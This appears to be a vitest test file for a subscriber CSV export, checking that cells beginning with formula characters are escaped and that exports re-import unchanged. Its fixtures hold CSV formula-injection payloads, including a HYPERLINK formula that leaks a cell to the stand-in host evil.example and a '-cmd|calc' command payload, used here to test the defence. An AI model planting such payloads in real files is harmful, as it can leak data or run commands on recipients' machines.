import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import { cell, toListCsv } from '../../src/audience/export.js';
import { parseListFile } from '../../src/audience/list-file.js';
import type { ExportRow } from '../../src/store/store.js';

/** An exported reader who consented, with the fields given. */
function row(id: number, fields: { email: string; name?: string; source?: string; topics?: string[]; attributes?: Record<string, string> }): ExportRow {
  return {
    subscriber: { id, email: fields.email, name: fields.name ?? '', locale: 'en', timezone: 'Europe/Paris', topics: fields.topics ?? [], attributes: fields.attributes ?? {} },
    state: 'consent',
    stateAt: '2026-01-02T00:00:00.000Z',
    source: fields.source ?? 'form',
    consentedAt: '2026-01-02T00:00:00.000Z',
    suppressed: null,
  };
}

// What sign-up forms and CRMs hand over: formulas, phone numbers, addresses a spreadsheet would run.
const READERS = [
  row(1, { email: 'eve@example.org', name: '=HYPERLINK("http://evil.example/?"&A1,"click")', attributes: { phone: '+33 1 23 45 67 89' } }),
  row(2, { email: '-dash@example.org', name: '@SUM(1+1)', source: '-cmd|calc', topics: ['-minus', 'plain'] }),
  row(3, { email: '+plus@example.org', name: "'=already has a quote", attributes: { phone: "''+two quotes" } }),
  row(4, { email: 'obrien@example.org', name: 'O\'Brien, "Pat"', source: "'tis", attributes: { phone: "'" } }),
  row(5, { email: 'ann@example.org', name: 'Ann = Anne', attributes: { phone: '-' } }),
];

describe('subscribers export: cells a spreadsheet would run are neutralised', () => {
  it("puts a ' before a cell starting with =, +, -, @, a tab or a carriage return, and before one that already starts with ' then one of them", () => {
    expect(['=1+1', '+1', '-1', '@A1', '\tx', '\rx', "'=x", "''+x"].map(cell)).toEqual(["'=1+1", "'+1", "'-1", "'@A1", "'\tx", '"\'\rx"', "''=x", "'''+x"]);
    expect(['plain', "O'Brien", "'tis", "'", 'a=b', ' =x'].map(cell)).toEqual(['plain', "O'Brien", "'tis", "'", 'a=b', ' =x']);
  });

  it('no cell of an export starts with a formula character, as a spreadsheet reads the CSV', () => {
    const cells = (parse(toListCsv(READERS)) as string[][]).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    expect(cells).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example/?"&A1,"click")', "'-dash@example.org", "'+33 1 23 45 67 89", "'-minus;plain", "''=already has a quote"]));
  });

  it('imports back to the same addresses, names, sources, topics and attributes', () => {
    const { entries, problems } = parseListFile(toListCsv(READERS), 'export.csv', 'export.csv');
    expect(problems).toEqual([]);
    expect(entries.map((e) => ({ email: e.email, name: e.name, source: e.source, topics: e.topics, attributes: e.attributes }))).toEqual(
      READERS.map((r) => ({
        email: r.subscriber.email,
        name: r.subscriber.name,
        source: r.source,
        topics: r.subscriber.topics,
        attributes: r.subscriber.attributes,
      })),
    );
    // …and exporting what was imported gives the same bytes again.
    const again = entries.map((e, i) => row(i + 1, { email: e.email, name: e.name, source: e.source, topics: e.topics, attributes: e.attributes }));
    expect(toListCsv(again)).toBe(toListCsv(READERS));
  });
});
